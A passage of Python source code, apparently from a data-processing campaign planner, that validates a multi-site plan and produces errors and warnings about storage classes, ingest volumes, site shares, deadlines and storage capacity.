                      f"{shown(ds.type)} moves between sites but its storage class is unknown: "
                      "the destination cannot register the dataset type, so nothing would be "
                      "ingested there",
                      f"set datasets[{i}].storage_class to the pipeline's, e.g. one of {known}")
    from .render.ingestd import ingestd_volume_errors  # the Deployment's own rules

    for site_id, index, problem in ingestd_volume_errors(plan):
        out.error(("sites", site_id, "ingestd", "volumes", index), problem,
                  "each volume has a name and an absolute mount_path of its own and exactly one "
                  "of claim (a PVC) or host_path")
    out.items.extend(name_errors(plan, loaded))  # Rucio's 250-character DID names
    return out.items


def plan_warnings(plan: Plan, loaded: LoadedCampaign) -> list[Diagnostic]:
    """A site's fraction far from its share; a site that cannot finish in time or has no room."""
    from .render.ingestd import ingestd_mount_problems  # what the pod sees: the Deployment's rule

    out = Collector(loaded)
    for site_id, problem in ingestd_mount_problems(plan):
        out.warning(("sites", site_id, "ingestd", "volumes"), problem,
                    "mount a PVC or host path at (or above) each path, read-write where ingest "
                    "writes; a repository and datastore reached over the network need none")
    for site in plan.sites:
        if abs(site.fraction - site.share) > SHARE_WARNING:
            out.warning(("sites", site.id, "share"),
                        f"site {shown(site.id)} owns {site.fraction:.3f} of the footprint's "
                        f"tracts, but its share is {site.share:g}",
                        "move a ring boundary (`drpc plan --balance` proposes some) or change the "
                        "share")
    for est in plan.estimates:
        if plan.deadline_days is not None and est.finish_day > plan.deadline_days:
            out.warning(("sites", est.site, "cores"),
                        f"site {shown(est.site)} finishes on day {est.finish_day:.0f} "
                        f"({est.core_hours:,.0f} core-hours at its {plan.site(est.site).cores} "
                        f"cores), after deadline_days {plan.deadline_days:g}",
                        "add cores, move tracts to another site, or extend the deadline")
        site = plan.site(est.site)
        if est.storage_tb > site.storage_tb:
            out.warning(("sites", est.site, "storage_tb"),
                        f"site {shown(est.site)} needs about {est.storage_tb:,.0f} TB, over its "
                        f"storage_tb {site.storage_tb:g}",
                        "add storage or move tracts to another site")
    return out.items
